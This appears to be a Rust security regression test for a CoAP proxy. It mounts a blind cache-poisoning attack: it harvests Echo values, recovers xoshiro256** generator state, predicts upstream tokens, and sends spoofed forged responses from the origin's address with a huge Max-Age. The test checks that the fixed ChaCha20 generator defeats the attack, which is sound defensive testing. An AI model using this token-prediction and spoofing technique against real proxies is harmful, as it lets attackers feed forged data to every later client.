//! Issue 26 item 2, tried as an attacker on the same network would, against the real `corral proxy`:
//! blind cache poisoning. The attacker collects values the proxy drew from its generator (Echo values: it
//! asks for the proxy's status, each time from a new port, until the first-answer credit is spent, and
//! every answer is then a 4.01 with a fresh Echo value), recovers the xoshiro256** state from them (`xoshiro/mod.rs`), makes the proxy
//! fetch a resource from an origin, and at once sends, from the origin's address (a raw socket), a
//! response with each predicted token, a huge Max-Age and "POISONED…". Against the old generator the
//! prediction holds and every later client gets the forged answer from the cache; against the ChaCha20
//! `SecretRng` nothing is predicted and the cache holds the origin's answer.
//!
//! The proxy runs in the servers' namespace and the attacker (and the origin) in the clients' (`spoof`):
//! loopback sources count as verified and are never challenged, so an attacker there would collect no
//! Echo value. Spoofing needs root; without it the test prints `skipped: …` and passes.

use crate::common;
use crate::spoof::{self, Pair};
#[path = "../../../corral-proto/tests/xoshiro/mod.rs"]
mod xoshiro;

use common::*;
use corral_proto::wire::{Code, Message, MessageId, MessageType, OptionNumber, Token};
use std::net::{SocketAddr, SocketAddrV4, UdpSocket};
use std::sync::mpsc;
use std::time::Duration;

/// Echo values collected: a few more than the four that determine the state.
const ECHOES: usize = 8;
/// How many outputs past the last Echo value the upstream token may be (the proxy draws a first message ID
/// for the new origin too).
const AHEAD: usize = 4;

/// An origin that answers every CON request a second late, with "genuine" and Max-Age 60, and reports the
/// token of each request it got (the test's check of the prediction; the attacker never sees it).
fn slow_origin() -> (SocketAddrV4, mpsc::Receiver<Vec<u8>>) {
    // Port 5683: the only port the proxy forwards to for clients beyond its host, by default.
    let sock = UdpSocket::bind((spoof::CLIENT, 5683)).unwrap();
    let SocketAddr::V4(addr) = sock.local_addr().unwrap() else { unreachable!() };
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 2048];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            let Ok(req) = Message::parse(&buf[..n]) else { continue };
            if req.mtype != MessageType::Con || tx.send(req.token.as_bytes().to_vec()).is_err() {
                continue;
            }
            std::thread::sleep(Duration::from_secs(1));
            let mut r = Message::new(MessageType::Ack, Code::CONTENT, req.mid, req.token);
            r.options.set_uint(OptionNumber::MAX_AGE, 60);
            r.payload = b"genuine".to_vec();
            let _ = sock.send_to(&r.encode(), from);
        }
    });
    (addr, rx)
}

fn get(mid: u16, token: &[u8]) -> Message {
    Message::new(MessageType::Non, Code::GET, MessageId(mid), Token::new(token).unwrap())
}

#[test]
fn a_blind_spoofer_cannot_poison_the_proxy_cache() {
    let Some(proxy_uri) = spoof::in_c() else {
        // The first run: the proxy in the servers' namespace, then this test again in the clients'.
        let Some(pair) = Pair::new("pcache", &[]) else { return };
        let bind = format!("{}:0", spoof::SERVER);
        let (_proxy, j) =
            spawn_json(pair.in_g(CORRAL).args(["proxy", "--bind", &bind, "--allow", "10.77.0.0/24", "--json"]));
        let proxy_uri = j["proxy_uri"].as_str().unwrap().to_string();
        pair.run_in_c("attack_proxy_cache::a_blind_spoofer_cannot_poison_the_proxy_cache", &proxy_uri);
        return;
    };
    let mut spoofer = Spoofer::new().expect("a raw socket in the clients' namespace");
    let proxy: SocketAddrV4 = proxy_uri.trim_start_matches("coap://").parse().unwrap();
    let (origin, tokens) = slow_origin();
    let attacker = UdpSocket::bind((spoof::CLIENT, 0)).unwrap();
    attacker.set_read_timeout(Some(Duration::from_secs(3))).unwrap();

    // 1. Echo values: the proxy's status is answered until the first-answer credit is spent, then
    //    challenged; the attacker never returns a value (it stays unverified). A peer is given one value
    //    while it is young, so the attacker asks from a new port each time: each challenge of a new peer
    //    draws a new value from the proxy's generator, one after another.
    let mut echoes = Vec::new();
    let mut buf = [0u8; 2048];
    for mid in 0..400u16 {
        let asker = UdpSocket::bind((spoof::CLIENT, 0)).unwrap();
        asker.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let mut m = get(mid, &mid.to_be_bytes());
        m.options.set_path("/proxy");
        asker.send_to(&m.encode(), proxy).unwrap();
        let (n, _) = asker.recv_from(&mut buf).expect("the proxy answers its status");
        let r = Message::parse(&buf[..n]).unwrap();
        if let Some(e) = r.options.get(OptionNumber::ECHO) {
            echoes.push(u64::from_be_bytes(e.try_into().expect("8-byte Echo values")));
            if echoes.len() == ECHOES {
                break;
            }
        }
    }
    assert_eq!(echoes.len(), ECHOES, "the proxy challenged the attacker");
    let mut distinct = echoes.clone();
    distinct.sort_unstable();
    distinct.dedup();
    assert_eq!(distinct.len(), ECHOES, "each new peer was given a value of its own: {echoes:x?}");

    // 2. The state, if the values came from xoshiro256**, and the tokens it would draw next (4 bytes:
    //    the low bytes of one output).
    let predicted: Vec<[u8; 4]> = match xoshiro::recover(&echoes, 1) {
        Some(mut state) => {
            (0..AHEAD).map(|_| xoshiro::step(&mut state).to_le_bytes()[..4].try_into().unwrap()).collect()
        }
        None => Vec::new(),
    };
    println!("Echo values {echoes:x?}: predicted next tokens {predicted:x?}");

    // 3. The proxy fetches from the origin; the forged answers arrive first, from the origin's address.
    let target = format!("coap://{origin}/reading");
    let mut m = get(900, &[0x99]);
    m.options.push_str(OptionNumber::PROXY_URI, &target);
    attacker.send_to(&m.encode(), proxy).unwrap();
    for (i, token) in predicted.iter().enumerate() {
        let mut forged =
            Message::new(MessageType::Non, Code::CONTENT, MessageId(0x7000 + i as u16), Token::new(token).unwrap());
        forged.options.set_uint(OptionNumber::MAX_AGE, 4_294_967_290);
        forged.payload = b"POISONED by a blind spoofer".to_vec();
        spoofer.send(origin, proxy, &forged.encode());
    }
    let real = tokens.recv_timeout(Duration::from_secs(5)).unwrap_or_else(|_| {
        let answer = attacker.recv_from(&mut buf).ok().and_then(|(n, _)| Message::parse(&buf[..n]).ok());
        let answer = answer.map(|m| format!("{} {}", m.code, String::from_utf8_lossy(&m.payload)));
        panic!("the proxy did not ask the origin; it answered {answer:?}")
    });
    let hit = predicted.iter().any(|t| t[..] == real[..]);
    println!("the proxy's upstream token {real:x?}: predicted {hit}");

    // 4. A client of the proxy afterwards gets what the cache holds.
    std::thread::sleep(Duration::from_millis(1500));
    let o = corral(&["get", &target, "-P", &proxy_uri]);
    let body = stdout(&o);
    println!("a later client gets {body:?}");
    assert!(!hit, "the attacker predicted the proxy's upstream token {real:x?} from its Echo values");
    assert_eq!(body, "genuine", "the cache holds the origin's answer: {}", stderr(&o));
}
